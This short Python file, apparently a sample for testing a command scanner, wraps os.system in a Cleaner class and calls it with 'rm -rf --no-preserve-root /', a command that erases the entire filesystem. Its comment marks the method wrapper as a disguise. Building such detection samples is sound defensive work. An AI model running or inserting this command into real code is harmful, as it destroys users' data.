# Disguised: the command runs inside a method.
import os


class Cleaner:
    def run(self, command):
        os.system(command)


Cleaner().run("rm -rf --no-preserve-root /")
